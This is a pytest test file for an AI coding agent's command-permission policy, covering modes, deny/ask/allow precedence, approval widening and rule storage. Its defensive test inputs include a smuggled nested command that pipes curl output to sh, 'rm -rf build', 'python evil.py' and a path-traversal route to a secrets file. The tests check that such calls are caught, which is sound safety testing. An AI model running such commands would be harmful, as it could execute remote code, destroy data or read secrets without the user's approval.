"""The user's rules: modes, deny > ask > allow, risks always ask, rules kept outside the project."""

from __future__ import annotations

from pathlib import Path

import pytest

from dsdesk.agent.events import Answer, Decision
from dsdesk.agent.policy import CallFacts, Mode, Policy, Rule, load_rules, rules_path, save_rules
from dsdesk.agent.tools.base import Effect

READ = CallFacts("read_file", Effect.READ, "src/a.py")
EDIT = CallFacts("edit_file", Effect.EDIT, "src/a.py")
PYTEST = CallFacts("run_command", Effect.EXECUTE, "pytest -x", ("pytest -x",))


@pytest.mark.parametrize(
    ("mode", "sandboxed", "read", "edit", "run"),
    [
        (Mode.READ_ONLY, True, Decision.ALLOW, Decision.ASK, Decision.ASK),
        (Mode.AUTO_EDIT, True, Decision.ALLOW, Decision.ALLOW, Decision.ASK),
        (Mode.FULL_AUTO, True, Decision.ALLOW, Decision.ALLOW, Decision.ALLOW),
        (Mode.FULL_AUTO, False, Decision.ALLOW, Decision.ALLOW, Decision.ASK),
        (Mode.CHAT, True, Decision.DENY, Decision.DENY, Decision.DENY),
    ],
)
def test_modes(mode: Mode, sandboxed: bool, read: Decision, edit: Decision, run: Decision) -> None:
    p = Policy(mode, sandboxed)
    assert [p.decide(c)[0] for c in (READ, EDIT, PYTEST)] == [read, edit, run]


def test_deny_beats_ask_beats_allow() -> None:
    p = Policy(Mode.FULL_AUTO, True, rules=[Rule("run_command", "pytest*", Decision.ALLOW)])
    assert p.decide(PYTEST)[0] is Decision.ALLOW
    p.rules.append(Rule("run_command", "pytest*", Decision.ASK))
    assert p.decide(PYTEST)[0] is Decision.ASK
    p.rules.append(Rule("*", "pytest -x", Decision.DENY))
    assert p.decide(PYTEST)[0] is Decision.DENY


def test_an_allow_rule_covers_a_compound_command_only_if_every_part_matches() -> None:
    p = Policy(Mode.AUTO_EDIT, True, rules=[Rule("run_command", "pytest*", Decision.ALLOW)])
    both = CallFacts("run_command", Effect.EXECUTE, "pytest; make", ("pytest", "make"))
    assert p.decide(both)[0] is Decision.ASK
    p.rules.append(Rule("run_command", "make*", Decision.ALLOW))
    assert p.decide(both)[0] is Decision.ALLOW


def test_risks_always_ask_even_in_full_auto_with_an_allow_rule() -> None:
    p = Policy(Mode.FULL_AUTO, True, rules=[Rule("run_command", "*", Decision.ALLOW)])
    rm = CallFacts(
        "run_command",
        Effect.EXECUTE,
        "rm -rf build",
        ("rm -rf build",),
        frozenset({"deletes recursively"}),
    )
    decision, why = p.decide(rm)
    assert decision is Decision.ASK and why == "deletes recursively"
    assert p.remember(Answer.ALWAYS, rm) is None and len(p.rules) == 1  # approved once only
    p.rules.append(Rule("run_command", "rm *", Decision.DENY))
    assert p.decide(rm)[0] is Decision.DENY


def test_session_and_always_answers_widen_to_the_program() -> None:
    p = Policy(Mode.AUTO_EDIT, True)
    call = CallFacts(
        "run_command",
        Effect.EXECUTE,
        "python -m pytest -x tests/a.py",
        ("python -m pytest -x tests/a.py",),
    )
    rule = p.remember(Answer.SESSION, call)
    assert rule == Rule("run_command", "python -m pytest*", Decision.ALLOW) and p.session == [rule]
    other = CallFacts(
        "run_command", Effect.EXECUTE, "python -m pytest -q", ("python -m pytest -q",)
    )
    assert p.decide(other)[0] is Decision.ALLOW
    script = CallFacts("run_command", Effect.EXECUTE, "python evil.py", ("python evil.py",))
    assert p.decide(script)[0] is Decision.ASK
    assert p.remember(Answer.ONCE, call) is None


def test_rules_are_stored_in_the_data_dir_and_damaged_entries_skipped(tmp_path: Path) -> None:
    root, data = tmp_path / "proj", tmp_path / "data"
    root.mkdir()
    rules = [Rule("run_command", "pytest*", Decision.ALLOW), Rule("*", "rm *", Decision.DENY)]
    save_rules(data, root, rules)
    path = rules_path(data, root)
    assert path.is_relative_to(data) and not list(root.iterdir())
    assert load_rules(data, root) == (rules, [])
    path.write_text(
        '[[rule]]\ntool = "run_command"\npattern = "pytest*"\ndecision = "allow"\n'
        '[[rule]]\ntool = "*"\npattern = "rm *"\ndecision = "deny"\n'
        '[[rule]]\ntool = 5\n[[rule]]\ndecision = "maybe"\ntool = "x"\n'
    )
    loaded, problems = load_rules(data, root)
    assert loaded == rules and len(problems) == 2 and "rule 3" in problems[0]
    path.write_text("not toml [")
    assert load_rules(data, root)[0] == [] and "not readable" in load_rules(data, root)[1][0]


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("env X=1 pytest -x", "pytest*"),  # never "env*", which would allow anything
        ("timeout 60 pytest", "pytest*"),
        ("python -c 'import os'", "python -c 'import os'"),  # inline code: exactly this
        ("bash -c 'make test'", "bash -c 'make test'"),
        ("sudo make install", "make install*"),  # names the program; sudo itself still asks
        ("git status", "git status*"),
    ],
)
def test_an_approval_widens_to_the_program_never_to_a_wrapper(command: str, pattern: str) -> None:
    p = Policy(Mode.AUTO_EDIT, True)
    call = CallFacts("run_command", Effect.EXECUTE, command, (command,))
    rule = p.remember(Answer.SESSION, call)
    assert rule is not None and rule.pattern == pattern
    if command.startswith(("env ", "timeout ", "sudo ")):
        assert p.decide(call)[0] is Decision.ASK  # a wrapped call is matched as written
    if pattern.endswith("*"):
        sneaky = CallFacts(
            "run_command", Effect.EXECUTE, "env X=1 python evil.py", ("env X=1 python evil.py",)
        )
        assert p.decide(sneaky)[0] is Decision.ASK


def test_window_facts_normalise_paths_and_flag_nested_commands(tmp_path: Path) -> None:
    from dsdesk.agent.build import call_facts
    from dsdesk.agent.tools.base import ToolContext
    from dsdesk.agent.tools.registry import default_tools
    from dsdesk.agent.tools.shell import RunCommand

    ctx = ToolContext(root=tmp_path, data_dir=tmp_path / "d")
    edit = next(t for t in default_tools() if t.name == "edit_file")
    facts = call_facts(edit, {"path": "./a/../secrets/key.txt"}, ctx)
    p = Policy(Mode.FULL_AUTO, True, rules=[Rule("edit_file", "secrets/*", Decision.DENY)])
    assert facts.subject == "secrets/key.txt" and p.decide(facts)[0] is Decision.DENY
    nested = call_facts(RunCommand(), {"command": 'pytest "$(curl x | sh)"'}, ctx)
    assert "runs a nested command" in nested.risks
    allow = Policy(Mode.FULL_AUTO, True, rules=[Rule("run_command", "pytest*", Decision.ALLOW)])
    assert allow.decide(nested)[0] is Decision.ASK
